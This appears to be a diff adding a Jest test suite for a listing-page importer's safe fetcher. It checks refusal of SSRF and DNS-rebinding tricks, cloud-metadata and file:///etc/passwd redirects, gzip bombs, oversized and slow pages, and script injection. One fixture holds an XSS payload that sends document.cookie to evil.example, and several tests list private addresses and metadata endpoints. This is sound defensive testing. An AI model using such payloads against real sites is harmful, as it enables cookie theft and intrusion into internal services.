@@ -1,0 +1,347 @@
+import { readFileSync } from 'node:fs';
+import http from 'node:http';
+import type { AddressInfo } from 'node:net';
+import path from 'node:path';
+import zlib from 'node:zlib';
+import { ConfigError, loadConfig } from '../../../config';
+import { ListingPageImporter } from './listing-page-importer';
+import {
+  DEFAULT_FETCH_POLICY,
+  fetchHtmlPage,
+  isPublicAddress,
+  PageFetchError,
+  parseAllowedHosts,
+  type FetchPolicy,
+} from './safe-fetch';
+
+const FIXTURES = path.resolve(__dirname, '../../../../test/fixtures/listing-pages');
+const RIGHTMOVE_PAGE = readFileSync(path.join(FIXTURES, 'uk_rightmove.html'));
+const SIX_MB = 6 * 1024 * 1024;
+
+// A real HTTP server on 127.0.0.1, allowed by configuration as a test portal; its routes play the hostile sites.
+let server: http.Server;
+let origin: string;
+let policy: FetchPolicy;
+const openResponses = new Set<http.ServerResponse>();
+
+const routes: Record<string, (request: http.IncomingMessage, response: http.ServerResponse) => void> = {
+  '/properties/171844895': (_, response) => {
+    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(RIGHTMOVE_PAGE);
+  },
+  '/gzip': (_, response) => {
+    response.writeHead(200, { 'content-type': 'text/html', 'content-encoding': 'gzip' });
+    response.end(zlib.gzipSync('<html><head><title>Zipped cottage</title></head></html>'));
+  },
+  '/latin1': (_, response) => {
+    response.writeHead(200, { 'content-type': 'text/html; charset=iso-8859-1' });
+    response.end(Buffer.from('<title>Caf\xe9 for sale</title>', 'latin1'));
+  },
+  '/redirect-home': (_, response) => {
+    response.writeHead(302, { location: '/properties/171844895' }).end();
+  },
+  '/redirect-to-metadata': (_, response) => {
+    response.writeHead(301, { location: 'http://169.254.169.254/latest/meta-data/' }).end();
+  },
+  '/redirect-to-file': (_, response) => {
+    response.writeHead(302, { location: 'file:///etc/passwd' }).end();
+  },
+  '/redirect-loop': (_, response) => {
+    response.writeHead(307, { location: '/redirect-loop' }).end();
+  },
+  '/huge': (_, response) => {
+    // No content-length: the size is only known by counting.
+    response.writeHead(200, { 'content-type': 'text/html' });
+    const chunk = Buffer.alloc(64 * 1024, 'a');
+    const write = (sent: number) => {
+      if (sent >= SIX_MB || response.destroyed) return response.end();
+      response.write(chunk, () => write(sent + chunk.length));
+    };
+    write(0);
+  },
+  '/huge-declared': (_, response) => {
+    response.writeHead(200, { 'content-type': 'text/html', 'content-length': String(SIX_MB) });
+    response.write('<html>');
+  },
+  '/gzip-bomb': (_, response) => {
+    response.writeHead(200, { 'content-type': 'text/html', 'content-encoding': 'gzip' });
+    response.end(zlib.gzipSync(Buffer.alloc(SIX_MB, ' ')));
+  },
+  '/slow-drip': (_, response) => {
+    response.writeHead(200, { 'content-type': 'text/html' });
+    const timer = setInterval(() => response.write('<p>'), 50);
+    response.on('close', () => clearInterval(timer));
+  },
+  '/never-answers': () => {},
+  '/json': (_, response) => {
+    response.writeHead(200, { 'content-type': 'application/json' }).end('{"price": 1}');
+  },
+  '/untyped': (_, response) => {
+    response.writeHead(200).end('<html></html>');
+  },
+  '/gone': (_, response) => {
+    response.writeHead(404, { 'content-type': 'text/html' }).end('<h1>Not found</h1>');
+  },
+  '/script-title': (_, response) => {
+    response.writeHead(200, { 'content-type': 'application/xhtml+xml' });
+    response.end(
+      '<html><head><title>Flat &amp; <script>document.location="https://evil.example/?"+document.cookie</script>' +
+        'garden &lt;i&gt;for sale&lt;/i&gt;</title></head><body></body></html>',
+    );
+  },
+};
+
+beforeAll(async () => {
+  server = http.createServer((request, response) => {
+    openResponses.add(response);
+    response.on('close', () => openResponses.delete(response));
+    const route = routes[new URL(request.url ?? '/', 'http://x').pathname];
+    if (route) route(request, response);
+    else response.writeHead(500).end();
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const { port } = server.address() as AddressInfo;
+  origin = `http://127.0.0.1:${port}`;
+  policy = { ...DEFAULT_FETCH_POLICY, allowedHosts: [`127.0.0.1:${port}`], timeoutMs: 1000 };
+});
+
+afterAll(async () => {
+  for (const response of openResponses) response.destroy();
+  await new Promise((resolve) => server.close(resolve));
+});
+
+async function refusal(url: string, fetchPolicy: FetchPolicy = policy): Promise<PageFetchError> {
+  const error = await fetchHtmlPage(url, fetchPolicy).then(
+    () => undefined,
+    (thrown: unknown) => thrown,
+  );
+  if (!(error instanceof PageFetchError)) throw new Error(`expected a refusal of ${url}, got ${String(error)}`);
+  expect(error.code).toBe('BAD_USER_INPUT');
+  return error;
+}
+
+describe('ListingPageImporter.importUrl through a local server allowed by IMPORT_ALLOWED_HOSTS', () => {
+  it('fetches a saved listing page and reads it with the general mechanisms', async () => {
+    const config = loadConfig({ IMPORT_ALLOWED_HOSTS: new URL(origin).host });
+    const imported = await ListingPageImporter.fromConfig(config).importUrl(`${origin}/properties/171844895`);
+
+    expect(imported.url).toBe(`${origin}/properties/171844895`);
+    // Not at rightmove.co.uk, so no portal mapping: Open Graph alone, with its price masked in the summary.
+    expect(imported.portal).toBeNull();
+    expect(imported.draft).toMatchObject({
+      title: 'Check out this 4 bedroom detached house for sale on Rightmove',
+      forSale: true,
+      photos: [
+        'https://media.rightmove.co.uk/property-photo/1ea796601/171844895/1ea796601ef4700b5cfa10c29a148d74.jpeg',
+      ],
+    });
+    expect(imported.draft.description).toContain('Headington, OX3 for £•••. Marketed by');
+    expect(imported.maskedPrices).toEqual([{ field: 'description', original: '£695,000' }]);
+    expect(imported.missing).toEqual(expect.arrayContaining(['price', 'bedrooms', 'latitude']));
+    expect(imported.message).toMatch(/^This page did not give the address, country, price, currency/);
+  });
+
+  it('follows a redirect within the allowed server, and reports where the page was found', async () => {
+    const page = await fetchHtmlPage(`${origin}/redirect-home`, policy);
+    expect(page.url).toBe(`${origin}/properties/171844895`);
+    // Compared as a flag: a diff of two 1 MB pages says nothing.
+    expect(page.html === RIGHTMOVE_PAGE.toString('utf8')).toBe(true);
+  });
+
+  it('decompresses a gzipped page, and decodes the charset the server names', async () => {
+    expect((await fetchHtmlPage(`${origin}/gzip`, policy)).html).toContain('Zipped cottage');
+    expect((await fetchHtmlPage(`${origin}/latin1`, policy)).html).toContain('Café for sale');
+  });
+
+  it('connects to the addresses it checked, never resolving the name again (DNS rebinding)', async () => {
+    // A name only this resolver knows, answering 127.0.0.1 once and then a private address: the system resolver
+    // cannot resolve it, so the page loads only through the checked answer.
+    const { port } = new URL(origin);
+    const answers = [[{ address: '127.0.0.1', family: 4 as const }], [{ address: '10.0.0.1', family: 4 as const }]];
+    const rebinding: FetchPolicy = {
+      ...policy,
+      allowedHosts: [`rebinding.test:${port}`],
+      resolveHost: async () => answers.shift() ?? [],
+    };
+    const page = await fetchHtmlPage(`http://rebinding.test:${port}/gzip`, rebinding);
+    expect(page.html).toContain('Zipped cottage');
+    expect(answers).toEqual([[{ address: '10.0.0.1', family: 4 }]]);
+  });
+
+  it('tries each checked address: a name resolving to ::1 and 127.0.0.1 reaches a server on 127.0.0.1', async () => {
+    const { port } = new URL(origin);
+    const dualStack: FetchPolicy = {
+      ...policy,
+      allowedHosts: [`dual.test:${port}`],
+      resolveHost: async () => [
+        { address: '::1', family: 6 },
+        { address: '127.0.0.1', family: 4 },
+      ],
+    };
+    expect((await fetchHtmlPage(`http://dual.test:${port}/gzip`, dualStack)).html).toContain('Zipped cottage');
+  });
+
+  it('keeps a script in the title as nothing but plain text', async () => {
+    const imported = await new ListingPageImporter(policy).importUrl(`${origin}/script-title`);
+    expect(imported.draft.title).toBe('Flat & garden for sale');
+  });
+});
+
+describe('fetchHtmlPage refuses', () => {
+  it.each([
+    ['file:///etc/passwd', 'scheme', 'The address uses file:: only http and https pages can be imported.'],
+    [
+      'ftp://ftp.example.com/listing.html',
+      'scheme',
+      'The address uses ftp:: only http and https pages can be imported.',
+    ],
+    ['javascript:alert(1)', 'scheme', 'The address uses javascript:: only http and https pages can be imported.'],
+    ['not a url', 'bad-url', "The address is not a web address: paste the listing's full URL (https://...)."],
+    [
+      'https://user:secret@homes.example/',
+      'bad-url',
+      'The address has a user name or password in it, which cannot be imported.',
+    ],
+  ])('%s (%s)', async (url, reason, message) => {
+    const error = await refusal(url);
+    expect([error.refusal, error.message]).toEqual([reason, message]);
+  });
+
+  it.each([
+    'http://10.1.2.3/',
+    'http://192.168.0.10/listing',
+    'http://169.254.169.254/latest/meta-data/',
+    'http://100.64.0.1/',
+    'http://0.0.0.0/',
+    'http://[::1]/',
+    'http://[::ffff:127.0.0.1]/',
+    'http://[fd00::1]/',
+    'http://[fe80::1]/',
+    'http://224.0.0.1/',
+    'http://2130706433/', // 127.0.0.1 written as one number
+  ])('a private, local or reserved address: %s', async (url) => {
+    const error = await refusal(url);
+    expect(error.refusal).toBe('blocked-address');
+    expect(error.message).toMatch(/is not a public internet address \(a private, local or reserved network\)/);
+  });
+
+  it('loopback on the allowed port under another name: localhost, or 127.0.0.1 mapped to IPv6', async () => {
+    const { port } = new URL(origin);
+    for (const url of [`http://localhost:${port}/properties/171844895`, `http://[::ffff:127.0.0.1]:${port}/`]) {
+      expect((await refusal(url)).refusal).toBe('blocked-address');
+    }
+  });
+
+  it('the allowed server itself once configuration no longer allows it', async () => {
+    const error = await refusal(`${origin}/properties/171844895`, { ...policy, allowedHosts: [] });
+    expect(error.message).toBe(
+      '127.0.0.1 is not a public internet address (a private, local or reserved network): it cannot be imported.',
+    );
+  });
+
+  it('a redirect from the allowed server to a private address, or to another scheme', async () => {
+    const toMetadata = await refusal(`${origin}/redirect-to-metadata`);
+    expect([toMetadata.refusal, toMetadata.message]).toEqual([
+      'blocked-address',
+      'The page redirected to 169.254.169.254, which is not a public internet address (a private, local or reserved ' +
+        'network): it cannot be imported.',
+    ]);
+    const toFile = await refusal(`${origin}/redirect-to-file`);
+    expect([toFile.refusal, toFile.message]).toEqual([
+      'scheme',
+      'The page redirected to an address that uses file:: only http and https pages can be imported.',
+    ]);
+  });
+
+  it('more than five redirects', async () => {
+    const error = await refusal(`${origin}/redirect-loop`);
+    expect([error.refusal, error.message]).toEqual(['too-many-redirects', 'The page redirected more than 5 times.']);
+  });
+
+  it.each(['/huge', '/huge-declared', '/gzip-bomb'])('a page over 5 MB: %s', async (route) => {
+    const error = await refusal(`${origin}${route}`);
+    expect([error.refusal, error.message]).toEqual(['too-large', 'The page is larger than 5 MB.']);
+  });
+
+  it.each(['/slow-drip', '/never-answers'])('a page that takes longer than the time limit: %s', async (route) => {
+    const started = Date.now();
+    const error = await refusal(`${origin}${route}`);
+    expect([error.refusal, error.message]).toEqual(['timeout', 'The page took longer than 1 second to load.']);
+    expect(Date.now() - started).toBeLessThan(3000);
+  });
+
+  it('what is not an HTML page', async () => {
+    const json = await refusal(`${origin}/json`);
+    expect([json.refusal, json.message]).toEqual([
+      'not-html',
+      'That address is not a web page (it is application/json).',
+    ]);
+    const untyped = await refusal(`${origin}/untyped`);
+    expect(untyped.message).toBe('That address is not a web page (it is of no stated type).');
+  });
+
+  it('a page the site answers with an error status', async () => {
+    const error = await refusal(`${origin}/gone`);
+    expect([error.refusal, error.message]).toEqual([
+      'http-status',
+      'The page could not be loaded: the site answered 404.',
+    ]);
+  });
+
+  it('a site whose name does not resolve', async () => {
+    const error = await refusal('http://no-such-host.invalid/');
+    expect([error.refusal, error.message]).toEqual([
+      'unknown-host',
+      'The site no-such-host.invalid could not be found.',
+    ]);
+  });
+});
+
+describe('isPublicAddress', () => {
+  it.each(['8.8.8.8', '151.101.1.1', '2001:4860:4860::8888', '::ffff:8.8.8.8'])('%s is public', (address) => {
+    expect(isPublicAddress(address)).toBe(true);
+  });
+
+  it.each([
+    '10.0.0.1',
+    '172.16.5.4',
+    '192.168.1.1',
+    '127.0.0.1',
+    '169.254.169.254',
+    '100.64.0.1',
+    '224.0.0.251',
+    '0.0.0.0',
+    '255.255.255.255',
+    '::1',
+    '::',
+    'fe80::1',
+    'fc00::1',
+    'ff02::1',
+    '::ffff:127.0.0.1',
+    '::ffff:10.0.0.1',
+    '64:ff9b::a00:1',
+    '2002:a00:1::',
+    'not an address',
+  ])('%s is not public', (address) => {
+    expect(isPublicAddress(address)).toBe(false);
+  });
+});
+
+describe('parseAllowedHosts and IMPORT_ALLOWED_HOSTS', () => {
+  it('reads host:port pairs separated by commas or spaces', () => {
+    expect(parseAllowedHosts('127.0.0.1:4567, [::1]:8080 Mirror.Example:80')).toEqual({
+      hosts: ['127.0.0.1:4567', '[::1]:8080', 'mirror.example:80'],
+      problems: [],
+    });
+    expect(loadConfig({}).importAllowedHosts).toEqual([]);
+  });
+
+  it('stops the start on an entry without a valid port', () => {
+    expect(parseAllowedHosts('127.0.0.1 localhost:0 host:70000').problems).toEqual([
+      '"127.0.0.1" is not host:port',
+      '"localhost:0" is not host:port',
+      '"host:70000" is not host:port',
+    ]);
+    expect(() => loadConfig({ IMPORT_ALLOWED_HOSTS: '127.0.0.1' })).toThrow(ConfigError);
+    expect(() => loadConfig({ IMPORT_ALLOWED_HOSTS: '127.0.0.1' })).toThrow(/IMPORT_ALLOWED_HOSTS: "127.0.0.1" is not/);
+  });
+});
